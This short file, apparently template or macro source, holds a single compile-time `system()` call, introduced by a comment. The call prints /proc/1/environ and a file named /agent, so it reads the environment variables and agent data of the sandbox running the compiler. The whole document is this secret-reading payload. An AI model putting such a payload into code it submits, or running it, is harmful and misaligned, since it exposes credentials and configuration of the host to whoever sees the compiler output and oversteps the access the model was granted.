# A command that is run while it is compiled: by the compiler's own user, in its box.
{% system("cat /proc/1/environ /agent") %}
